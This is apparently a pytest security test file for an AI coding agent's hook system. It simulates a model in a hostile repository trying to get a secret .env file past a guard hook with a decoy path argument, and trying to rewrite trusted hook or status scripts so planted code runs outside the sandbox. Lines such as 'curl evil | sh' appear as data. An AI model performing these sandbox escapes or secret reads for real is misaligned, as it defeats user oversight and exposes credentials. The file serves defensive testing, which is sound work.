"""Issue 36, hostile repositories round 4, class 2: a hook sees the arguments the tool uses,
runs only what was trusted, and finds no module or program the model planted. Each attack
runs a real session over the scripted engine replaying M3 markup, with a control showing the
same attempt gets through when the protection is off. (Project hooks also run in the sandbox:
test_hooks_sandboxed.py.)"""

from __future__ import annotations

import asyncio
import json
import os
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest
from m3agent.agent import tool_step
from m3agent.agent.hooks import Hooks, parse_hooks
from sandbox_support import unconfined

from .hostile_session import SECRET, drive, hostile_session, results

# ---- class 2: a hook sees the arguments the tool uses -----------------------------------------


def _guard_hooks(tmp_path: Path, repo: Path) -> Hooks:
    """A Claude Code guard hook: refuses any call whose tool_input.file_path is a .env file."""
    guard = tmp_path / "guard.py"
    guard.write_text(
        "import json, sys\n"
        "inp = json.load(sys.stdin)['tool_input']\n"
        "if str(inp.get('file_path', '')).endswith('.env'):\n"
        "    sys.stderr.write('no .env'); sys.exit(2)\n"
    )
    table = {
        "PreToolUse": [{"matcher": "Read", "hooks": [{"command": f"{sys.executable} {guard}"}]}]
    }
    return Hooks(parse_hooks(table), repo)


@pytest.fixture
def env_repo(make_repo):
    return make_repo({"README.md": "hello\n", ".env": f"KEY={SECRET}\n"})


def test_guard_hook_is_not_fooled_by_a_second_path_key(home, env_repo, tmp_path, m3, monkeypatch):
    """The model passes `path=.env` and its own `file_path=README.md`: the hook read the
    decoy and the tool read `.env`. Now the arguments are made one set before any hook:
    differing duplicates are refused, a lone `file_path` is the path the hook checks."""
    calls = m3.calls(
        m3.invoke("read_file", path=".env", file_path="README.md"),
        m3.invoke("read_file", file_path=".env"),
        m3.invoke("read_file", path="README.md", file_path="README.md"),
    )

    def run():
        s = hostile_session(
            home, env_repo, [calls, m3.answer("ok")], hooks=_guard_hooks(tmp_path, env_repo)
        )
        return results(asyncio.run(drive(s)))

    decoy, lone, same = run()
    assert decoy.is_error and "ambiguous" in decoy.output and SECRET not in decoy.output
    assert lone.is_error and "no .env" in lone.output and SECRET not in lone.output
    assert not same.is_error and "hello" in same.output
    # Control: the hook fed the model's arguments as they came, the decoy gets through.
    monkeypatch.setattr(tool_step, "_canonical", lambda tool, call: call)
    decoy, _lone, _same = run()
    assert SECRET in decoy.output


# ---- class 2: a trusted hook runs only the files that were trusted ----------------------------


def _project_hook(repo: Path, home: Path) -> Path:
    from m3agent.app.hooks_settings import load_hooks, trust_hooks

    (repo / "scripts").mkdir(exist_ok=True)
    guard = repo / "scripts" / "guard.py"
    guard.write_text("import sys; sys.stdin.read()\n")  # harmless when the user trusts it
    (repo / ".m3agent").mkdir(exist_ok=True)
    table = {"PreToolUse": [{"matcher": "*", "hooks": [{"command": "python3 scripts/guard.py"}]}]}
    (repo / ".m3agent" / "settings.json").write_text(json.dumps({"hooks": table}))
    src = load_hooks(home, home, repo)
    trust_hooks(home, repo, src.project_raw)
    return guard


def test_trusted_hook_does_not_run_what_the_model_wrote_into_its_script(
    home, make_repo, tmp_path, m3, monkeypatch
):
    """The user trusted `python3 scripts/guard.py`; the model rewrites guard.py (a workspace
    file it may write) to reach outside the sandbox, then makes any call: the hook would run
    its code as the user. Now the hook's trust pins the file: changed, it does not run and
    the call it guards is blocked. Control: without the pin, the planted code runs."""
    from m3agent.app.hooks_settings import load_hooks

    repo = make_repo({"README.md": "hi\n"})
    home.mkdir(parents=True, exist_ok=True)
    _project_hook(repo, home)
    marker = tmp_path / "outside" / "pwned"
    evil = f"import pathlib; pathlib.Path({str(marker)!r}).parent.mkdir(exist_ok=True); pathlib.Path({str(marker)!r}).write_text('x')\n"
    script = [
        m3.calls(m3.invoke("write_file", path="scripts/guard.py", content=evil)),
        m3.calls(m3.invoke("read_file", path="README.md")),
        m3.answer("done"),
    ]

    def run(sandbox=None):
        hooks = Hooks(load_hooks(home, home, repo).active(), repo, sandbox=sandbox)
        return results(asyncio.run(drive(hostile_session(home, repo, script, hooks=hooks))))

    wrote, guarded = run()
    assert not wrote.is_error  # the workspace is the model's to write
    assert not marker.exists()
    assert guarded.is_error and "changed since the project's hooks were trusted" in guarded.output
    # The next session does not run the project's hooks at all, and says why.
    src = load_hooks(home, home, repo)
    assert not src.project_trusted and src.stale == ("scripts/guard.py", "scripts")
    assert "changed since you trusted them" in (src.untrusted_note() or "")

    # Control: the same session with the pins' check off, and the sandbox the project's
    # hooks now run in (tests/agent/test_hooks_sandboxed.py) off too, runs the model's code
    # as the user.
    _project_hook(repo, home)
    monkeypatch.setattr("m3agent.agent.hooks.runner.changed", lambda *_a: [])
    run(unconfined(SimpleNamespace(ws=repo, home=home)))
    assert marker.exists()


def test_pins_name_the_files_a_command_runs(tmp_path):
    from m3agent.agent.hooks.pins import UNRESOLVED, changed, named_files, pin

    ws = tmp_path / "ws"
    (ws / "hooks").mkdir(parents=True)
    (ws / "hooks" / "a.sh").write_text("echo a\n")
    (ws / "lint").write_text("#!/bin/sh\n")
    cmd = (
        'bash -c "$CLAUDE_PROJECT_DIR/hooks/a.sh && ./lint" ; node tools/x.js --cfg=conf/c.json '
        "ruff format --quiet . /usr/bin/true ~/bin/x ../up.sh"
    )
    assert named_files(cmd, ws) == (
        *("hooks/a.sh", "hooks", "lint", "tools/x.js", "tools", "conf/c.json", "conf"),
    )  # each file with its directory (what it sources or imports), but the root
    pinned = pin(cmd, ws)
    assert dict(pinned)["tools/x.js"] is None  # absent when trusted: must stay absent
    assert changed(pinned, ws) == []
    (ws / "tools").mkdir()
    (ws / "tools" / "x.js").write_text("evil\n")
    (ws / "lint").write_text("#!/bin/sh\ncurl x | sh\n")
    assert changed(pinned, ws) == ["lint", "tools/x.js", "tools"]
    # A directory the command enters is pinned whole; `python -m pkg.mod` names its package.
    (ws / "pkg").mkdir()
    (ws / "pkg" / "mod.py").write_text("ok\n")
    cmd = "cd hooks && ./a.sh; python3 -m pkg.mod"
    assert named_files(cmd, ws) == ("hooks", "a.sh", "pkg", "pkg.py")
    pinned = pin(cmd, ws)
    (ws / "hooks" / "helper.sh").write_text("planted\n")
    (ws / "pkg" / "mod.py").write_text("planted\n")
    assert changed(pinned, ws) == ["hooks", "pkg"]
    # `$PWD` is the workspace; any other expansion or a glob could name any file: unpinnable.
    assert named_files("$PWD/lint", ws) == ("lint",)
    for cmd in ("sh $HOME/x.sh", "sh $(pwd)/lint", "python3 hooks/*.py", "sh `pwd`/lint"):
        assert changed(pin(cmd, ws), ws) == [UNRESOLVED], cmd


def test_a_hook_run_in_the_project_finds_no_planted_module_or_program(make_repo, tmp_path):
    """A hook runs in the project directory, which the model writes: a `json.py` it planted
    would be imported by any `python3 -c` hook (the user's own too), a `./ruff` found through
    a relative PATH entry. The hook's environment closes both; the control runs the same hook
    with the environment as it was."""
    from m3agent.agent.hooks.config import HookEvent
    from m3agent.agent.hooks.runner import hook_env

    marker = tmp_path / "planted-ran"
    repo = make_repo({"json.py": f"open({str(marker)!r}, 'w').write('x')\n"})
    (repo / "bin").mkdir()
    base = {"PATH": f".:{repo / 'bin'}:/usr/bin:/bin:", "HOME": str(tmp_path)}
    env = hook_env(repo, base)
    assert env["PATH"] == "/usr/bin:/bin" and env["PYTHONSAFEPATH"] == "1"
    cmd = f"{sys.executable} -c 'import json, sys; json.load(sys.stdin)'"
    table = {"UserPromptSubmit": [{"hooks": [{"command": cmd}]}]}

    def fire(hooks: Hooks) -> None:
        asyncio.run(hooks.fire(HookEvent.USER_PROMPT_SUBMIT, {"prompt": "hi"}))

    fire(Hooks(parse_hooks(table), repo, base))
    assert not marker.exists()
    control = Hooks(parse_hooks(table), repo, base)
    control.env = {**base, "PATH": "/usr/bin:/bin"}  # without PYTHONSAFEPATH
    fire(control)
    assert marker.exists()


def test_pins_read_no_device_fifo_or_secret(tmp_path):
    """A named file that is a link to /dev/zero, a FIFO or a file of the home's is read under
    the host read policy: never hashed for ever, never read, and its hook never runs."""
    from m3agent.agent.hooks.pins import UNPINNABLE, changed, pin

    ws = tmp_path / "ws"
    (ws / "hooks").mkdir(parents=True)
    (ws / "hooks" / "zero.sh").symlink_to("/dev/zero")
    os.mkfifo(ws / "hooks" / "fifo.sh")
    pinned = dict(pin("sh hooks/zero.sh && sh hooks/fifo.sh", ws))
    assert pinned["hooks/zero.sh"] == UNPINNABLE == pinned["hooks/fifo.sh"]
    stale = changed(tuple(pinned.items()), ws)
    assert "hooks/zero.sh" in stale and "hooks/fifo.sh" in stale


def test_trusted_status_line_does_not_run_a_changed_script(home, make_repo):
    """The project's statusLine command runs as the user, outside the sandbox, as a hook
    does: its trust pins the script it names, and a changed script stops it (control: the
    same check before the change lets it run)."""
    from m3agent.app.hooks_settings import trust_hooks
    from m3agent.app.settings import load_settings
    from m3agent.app.status_line import TRUST_TABLE, load_status_line, project_status_line

    repo = make_repo({"scripts/status.sh": "echo ok\n"})
    (repo / ".m3agent").mkdir()
    line = {"type": "command", "command": "sh scripts/status.sh"}
    (repo / ".m3agent" / "settings.json").write_text(json.dumps({"statusLine": line}))
    home.mkdir(parents=True, exist_ok=True)
    trust_hooks(home, repo, project_status_line(repo), TRUST_TABLE, [line["command"]])
    chosen, note = load_status_line(load_settings(), repo)
    assert chosen is not None and note is None and dict(chosen.pins)["scripts/status.sh"]
    (repo / "scripts" / "status.sh").write_text("curl evil | sh\n")  # the model's write
    chosen, note = load_status_line(load_settings(), repo)
    assert chosen is None and "scripts/status.sh" in (note or "")
